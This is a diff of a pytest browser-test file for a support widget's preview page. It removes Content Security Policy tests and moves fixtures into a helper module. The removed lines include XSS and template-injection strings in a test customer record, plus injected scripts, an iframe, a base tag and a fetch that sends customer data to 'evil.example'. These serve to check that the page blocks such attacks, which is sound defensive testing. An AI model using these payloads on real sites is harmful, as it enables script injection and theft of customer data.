@@ -1,7 +1,6 @@
 """What a real browser makes of the page on which a customer's widget is tried."""
 
 import json
-from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
 
@@ -9,61 +8,16 @@ import pytest
 from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
 
-from reamaze_gui.core.authkey import Secret, authkey
 from reamaze_gui.core.customer import Customer
 from reamaze_gui.core.diagnosis import Verdict, diagnose
 from reamaze_gui.core.preview import Mode, compose
-from reamaze_gui.core.try_page import TRIED, TryPage, write_try_page
+from reamaze_gui.core.try_page import TRIED, write_try_page
 from reamaze_gui.try_server import TryServer
 from tests.browser import Browser
-from tests.cdn import CDN, LOADER, SILENT, Loader, serving
+from tests.cdn import CDN, LOADER, SILENT, Loader
+from tests.try_pages import ACCOUNT, HOSTILE, SECRET, ZOE, page_for, sent, told
 
-SECRET = Secret("never-in-the-page-0451")
-ACCOUNT = "acme"
-ZOE = Customer(
-    "48151623", "zoe@example.org", "Zoë Quinn", "+14155552671", "https://example.org/z.png"
-)
-HOSTILE = Customer(
-    "a:b</script><script>evil=1</script>",
-    "o'neil+tag&co@example.org",
-    "</script><!--<script> \"Zoë\" 'O\\' $style ${x} {{x}} <%=x%> ]]> &amp; \U0001f600",
-    avatar="https://example.org/?a=1&b='<z>'",
-)
 QUICK_CLOCK = "const now = performance.now.bind(performance); performance.now = () => 100 * now();"
-
-
-@pytest.fixture(scope="module")
-def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
-    with (
-        serving(tmp_path_factory.mktemp("cdn")) as place,
-        Browser(tmp_path_factory.mktemp("profile"), {CDN: place}) as browser,
-    ):
-        yield browser
-
-
-@pytest.fixture
-def server() -> Iterator[TryServer]:
-    server = TryServer()
-    server.start()
-    yield server
-    server.stop()
-
-
-def page_for(customer: Customer, mode: Mode = Mode.AUTHENTICATED) -> TryPage:
-    preview = compose(customer, SECRET, TRIED, mode=mode, account=ACCOUNT)
-    assert preview.snippet, preview.obstacle
-    return write_try_page(preview, customer, ACCOUNT, mode)
-
-
-def sent(customer: Customer) -> dict[str, str]:
-    fields = {name: getattr(customer, name) for name in ("id", "email", "name", "phone", "avatar")}
-    fields["authkey"] = authkey(SECRET, customer.id, customer.email)
-    return {name: value for name, value in fields.items() if value}
-
-
-def told(browser: Browser) -> str:
-    """Return all that the page says now."""
-    return str(browser.run("document.querySelector('main').innerText"))
 
 
 @pytest.mark.parametrize(
@@ -209,92 +163,6 @@ def test_where_nothing_can_be_copied_it_stands_there_selected(
     browser.run(COPY)
     browser.wait_for(lambda: "does not let this page copy" in told(browser))
     assert json.loads(browser.run("getSelection().toString()"))["user"] == sent(ZOE)
-
-
-INJECTED = """
-const script = document.createElement("script");
-script.textContent = "injected = 1";
-document.head.append(script);
-document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror='injected = 2'>");
-"""
-
-
-@pytest.mark.parametrize(
-    ("attack", "refused"),
-    [
-        pytest.param(INJECTED, "script-src-elem", id="a script in the page"),
-        pytest.param(
-            "document.head.append(Object.assign(document.createElement('script'),"
-            "{src: 'https://evil.example/x.js'}))",
-            "script-src-elem",
-            id="a script from elsewhere",
-        ),
-        pytest.param(
-            "fetch('https://evil.example/?' + JSON.stringify(_support)).catch(() => 0)",
-            "connect-src",
-            id="a request that carries the customer away",
-        ),
-        pytest.param(
-            "document.body.append(Object.assign(document.createElement('iframe'),"
-            "{src: 'https://evil.example/'}))",
-            "frame-src",
-            id="a page in the page",
-        ),
-        pytest.param(
-            "document.head.append(Object.assign(document.createElement('base'),"
-            "{href: 'https://evil.example/'}))",
-            "base-uri",
-            id="another base",
-        ),
-    ],
-)
-def test_what_is_injected_does_not_run_and_the_page_says_so(
-    attack: str,
-    refused: str,
-    browser: Browser,
-    server: TryServer,
-) -> None:
-    server.show(page_for(ZOE))
-    browser.open(server.address)
-    browser.run(f"(() => {{ {attack} }})()")
-    browser.wait_for(lambda: f"({refused})" in told(browser))
-    assert browser.run("typeof injected") == "undefined"
-
-
-# Each gives a promise that is kept once the browser has tried; only the CDN can be reached here.
-NEEDED = {
-    "data": f"fetch('https://{CDN}/data', {{mode: 'no-cors'}})",
-    "a page": f"added('iframe', {{src: 'https://{CDN}/shoutbox'}})",
-    "another script": f"added('script', {{src: 'https://{CDN}/assets/reamaze.js'}})",
-    "a style sheet": f"added('link', {{rel: 'stylesheet', href: 'https://{CDN}/x.css'}})",
-    "a style": "added('style', {textContent: 'main {border-left: 7px solid}'})",
-    "a picture": "added('img', {src: 'https://pictures.example/zoe.png'})",
-    "messages": "new Promise(then => new WebSocket('wss://push.reamaze.com/').onclose = then)",
-}
-ADDED = """
-const added = (tag, properties) => new Promise((then) => {
-  const element = document.createElement(tag);
-  document.body.append(Object.assign(element, properties, {onload: then, onerror: then}));
-});
-"""
-
-
-@pytest.mark.parametrize("what", NEEDED)
-def test_what_the_widget_needs_is_allowed(what: str, browser: Browser, server: TryServer) -> None:
-    server.show(page_for(ZOE))
-    browser.open(server.address, before=ADDED)
-    browser.run(f"{NEEDED[what]}.then(() => 'tried')")
-    assert browser.run("document.getElementById('refused').hidden")
-    assert "Content Security Policy" not in "".join(browser.complaints())
-
-
-def test_no_other_page_can_show_or_read_it(browser: Browser, server: TryServer) -> None:
-    server.show(page_for(ZOE))
-    before = server.visits
-    browser.open(f"data:text/html,<iframe src='{server.address}'></iframe>")
-    read = f"fetch('{server.address}').then(each => each.text(), () => 'nothing')"
-    assert browser.run(read) == "nothing"
-    assert server.visits == before
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
